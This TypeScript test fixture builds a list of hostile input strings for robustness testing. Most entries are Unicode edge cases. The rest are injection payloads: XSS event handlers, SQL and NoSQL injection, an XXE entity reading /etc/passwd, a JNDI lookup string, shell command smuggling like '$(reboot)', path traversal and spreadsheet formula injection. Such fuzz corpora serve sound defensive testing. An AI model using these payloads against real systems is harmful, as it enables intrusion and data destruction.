/** Texts that break things, made from what each kind of thing breaks on. None holds anything personal, so nothing is taken out of one. */

const char = (code: number): string => String.fromCodePoint(code);
const range = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, at) => from + at);
const around = (codes: number[]): string[] => codes.map((code) => `a${char(code)}b`);

const controls = around([...range(0, 0x1f), ...range(0x7f, 0x9f)]);

/** Halves of pairs, which stand for nothing and cannot be written in UTF-8. */
export const loneSurrogates = [
  ...['\ud800', '\udbff', '\udc00', '\udfff', 'a\ud83d', '\ud83da', 'a\ude00', '\ude00a', 'a\ud83db', 'a\ude00b'],
  ...['\ude00\ud83d', '\ud83d\ud83d', '\ude00\ude00', '\ud83d\ud83d\ude00', '😀\ude00', '\ud83d 😀', 'é\udfff\u0301'],
];

const bidi = [
  ...[0x061c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)].flatMap((code) => [
    `before${char(code)}after`,
    `${char(code).repeat(50)}deep`,
    `abc ${char(code)}مرحبا 12:30 (x)${char(0x202c)}${char(0x2069)} end`,
  ]),
  '\u202egnp.txe\u202c.exe',
  '\u2067\u2066\u2067\u2066',
];

const invisible = around([
  ...[0xad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2062, 0x2063],
  ...[0x2064, ...range(0x206a, 0x206f), 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, ...range(0xfff9, 0xfffd), 0xe0001],
  ...[0xe0061, 0xe007f, 0xe0100, 0xe01ef],
]);
const spaces = around([0xa0, 0x1680, ...range(0x2000, 0x200a), 0x2028, 0x2029, 0x202f, 0x205f, 0x3000]);
const blanks = [' ', '\t', '\n', '\u00a0', '\u200b', '\u3000', ' \n \n ', ' leading', 'trailing ', '\n\nlines\n\n'];
const nonCharacters = around([
  ...range(0xfdd0, 0xfdef),
  ...range(0, 16).flatMap((at) => [at * 65536 + 0xfffe, at * 65536 + 0xffff]),
]);

const combining = [
  ...range(0x0300, 0x0310).map((code) => `e${char(code)}`),
  ...[10, 100, 1000].map((count) => `Z${'\u0300\u0323\u0338'.repeat(count)}algo`),
  ...['\u00e9', 'e\u0301', '\u212b', '\u00c5', 'A\u030a', '\ud55c', '\u1112\u1161\u11ab', '\ufb01', '\ufdfa', '\u0130'],
  ...['\u0131', '\u00df', '\u1e9e', '\u0149', '\u212a', '\u03c2\u03c3\u03a3', '\u01c4\u01c5\u01c6', '\u0390', '\u1fb3'],
  ...['\u0958', '\u2126', '\u0344', '\u0f73', '\u0301', '\u20dd', '1\u20e3', '\u1ab0a', '\u0488', '\ua670x'],
];

const emoji = [
  ...['👩‍👩‍👧‍👦', '👨🏿‍🦽‍➡️', '🏳️‍🌈', '🏴‍☠️', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '🇳🇱🇧🇪', '🇳', '👍🏽', '🏽', '☹︎', '☹️', '#️⃣', '❤️‍🔥', '🧑‍🤝‍🧑', '🫱🏻‍🫲🏿'],
  ...['👨‍', '‍👨', '👁️‍🗨️', '🐻‍❄️', '😀'.repeat(500), '👩‍❤️‍💋‍👨'.repeat(50), '🙂‍↕️', '🀄︎🀄️', '㊙️', '🅰️'],
];

const scripts = [
  ...['التوصيل متأخر جدا', 'הַמִּשְׁלוֹחַ אֵחַר', 'سفارش من دیر رسید', 'ڈیلیوری دیر سے', 'ދިވެހި ބަސް', 'ߒߞߏ ߞߊ߲', 'ܠܫܢܐ ܣܘܪܝܝܐ'],
  ...[
    'बहुत देर हो गई',
    'தாமதம்',
    'ช้ามาก',
    'ຊ້າຫຼາຍ',
    'យឺតណាស់',
    'နောက်ကျ',
    'ཕྱི་པོ',
    'ዘግይቷል',
    'დაგვიანდა',
    'ուշացավ',
    'ᏣᎳᎩ',
    '太晚了',
  ],
  ...[
    '遅すぎました',
    '너무 늦었어요',
    'ᠮᠣᠩᠭᠣᠯ',
    '𒀀𒀁',
    '𐌲𐌿𐍄',
    '𓂀𓃠',
    'ไทยเขียนติดกันโดยไม่เว้นวรรคเลยสักนิดเดียว',
    'ﷺﷻ',
    '𝕱𝖆𝖓𝖈𝖞',
    'ｆｕｌｌ ｗｉｄｔｈ',
    'Ⓒⓘⓡⓒ',
    'ʇxǝʇ uʍop',
  ],
  ...[
    'abc עברית def',
    'עברית abc עברית',
    'سلام (hello) سلام',
    '(مرحبا',
    'مرحبا!',
    '١٢٣ و ۴۵۶',
    'ВСЁ опоздало',
    'Zażółć gęślą jaźń',
    'Ünïçödé',
    'ñandú',
  ],
];

const tags = [
  ...['script', 'img', 'svg', 'iframe', 'object', 'embed', 'style', 'a', 'math', 'video', 'details', 'body', 'input'],
  ...['form', 'template', 'slot', 'link', 'meta', 'base', 'marquee', 'xmp', 'plaintext', 'noscript', 'textarea'],
  ...['title', 'waymark-feedback', 'html', 'frameset', 'portal'],
];
const run = 'globalThis.hacked=1';
const markup = [
  ...tags.flatMap((tag) => [
    `<${tag} src=x href="javascript:${run}" onload="${run}" onerror="${run}" ontoggle="${run}" open autofocus onfocus="${run}">${run}</${tag}>`,
    `</${tag}><${tag.toUpperCase()}`,
    `&lt;${tag}&gt;${run}&lt;/${tag}&gt;`,
  ]),
  ...[
    '<!--',
    '-->',
    '<!-- --!>',
    ']]>',
    '<![CDATA[',
    '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  ],
  ...[
    '&amp;',
    '&#60;b&#62;',
    '&#x3c;',
    '&nbsp',
    '&notanentity;',
    '&',
    '<',
    '>',
    '"',
    "'",
    '`',
    '</p></dd></dl></article>',
  ],
  ...['"', "'", '`'].map((quote) => `${quote}><img src=x onerror=${run}>`),
  ...['"', "'", ' '].map((quote) => `x${quote} onmouseover=${run} style=position:fixed;inset:0 x=${quote}`),
  ...[
    '<scr<script>ipt>',
    '<script\u0000>',
    '<\u0000script>',
    '<ſcript>',
    '＜script＞',
    '<svg/onload=1>',
    '<<b>>',
    '<b',
    '</',
  ],
];

const database = [
  ...["'", '"', "''", "' OR '1'='1", '" OR ""="', "'; DROP TABLE responses; --", "'); DELETE FROM responses; --", '--'],
  ...[
    '/* */',
    "' UNION SELECT * FROM secrets --",
    "\\'; --",
    '%',
    '_',
    '%_%',
    'a%27b',
    "x'00'",
    'NULL',
    "' || 'x",
    ';',
    '?',
    '?1',
    ':id',
  ],
  ...[
    '@p',
    '$1',
    "'; ATTACH DATABASE 'x' AS y; --",
    "'; PRAGMA writable_schema=1; --",
    '{"$gt":""}',
    '{"$where":"1"}',
    '*)(uid=*',
  ],
];

const templates = [
  ...[
    '{{7*7}}',
    '{{constructor.constructor("1")()}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{% if 1 %}',
    '[[x]]',
    '{x}',
    '{0}',
    '{}',
  ],
  ...[
    '{{{raw}}}',
    '%s',
    '%n%n%n',
    '%d',
    '%x%x',
    '%p',
    '%%',
    '%(a)s',
    '$&',
    '$1',
    "$'",
    '$`',
    '\\1',
    '\\$&',
    '{count, plural, other {x}}',
  ],
  ...[
    '${jndi:ldap://x.invalid/a}',
    '$(reboot)',
    '`reboot`',
    '; ls -la',
    '| cat',
    '&& true',
    '|| true',
    '> out',
    '< in',
    '$HOME',
    '%PATH%',
  ],
  ...[
    '\\u0041',
    '\\x41',
    '\\n',
    '\\',
    '\\\\',
    '\\"',
    '\\u0000',
    '\\ud800',
    '\\u{1F600}',
    '\n\\\n',
    '%0d%0aSet-Cookie: a=b',
    '\u2028alert',
    '$$',
    '@{x}',
  ],
];

const addresses = [
  ...[
    `javascript:${run}`,
    'JaVaScRiPt:alert`1`',
    'data:text/html,<b>',
    'vbscript:x',
    'file:///etc/passwd',
    '//x.invalid',
    'https://x.invalid/?a=b#c',
  ],
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows',
    '%2e%2e%2f',
    '%00',
    '%',
    '%zz',
    '\\\\server\\share',
    'C:\\CON',
    'NUL',
    'aux.txt',
    '~root',
    './.',
    '…/',
  ],
];

const data = [
  ...[
    'null',
    'undefined',
    'NaN',
    'Infinity',
    '-Infinity',
    'true',
    'false',
    '0',
    '-0',
    '-1',
    '1e309',
    '1e-400',
    '0x10',
    '0b1',
    '1_0',
  ],
  ...[
    '[]',
    '{}',
    '[object Object]',
    '{"__proto__":{"x":1}}',
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'toJSON',
    'hasOwnProperty',
  ],
  ...[
    'then',
    'length',
    '"',
    '{"',
    '["',
    '{"id":"x","revision":99}',
    'function(){}',
    '()=>1',
    'async',
    '/.*/g',
    'Symbol()',
    '2026-03-04',
    'None',
  ],
  ...[
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '=HYPERLINK("https://x.invalid")',
    "=cmd|' /C calc'!A0",
    ',',
    ';',
    '\t',
    '"a","b"',
    'a""b',
    'sep=;',
  ],
];

/** The longest that a field takes: 10,000 characters as JavaScript counts them. */
export const LONGEST = 10_000;
const long = ['a', '😀', '<', '&', '"', '\\', '\u0000', 'é', 'ع', '\n', ' ', 'word '].map((text) =>
  text.repeat(LONGEST / text.length),
);

export const hostileStrings: readonly string[] = [
  ...new Set([
    ...[controls, loneSurrogates, bidi, invisible, spaces, blanks, nonCharacters, combining, emoji, scripts].flat(),
    ...[markup, database, templates, addresses, data, long].flat(),
  ]),
];
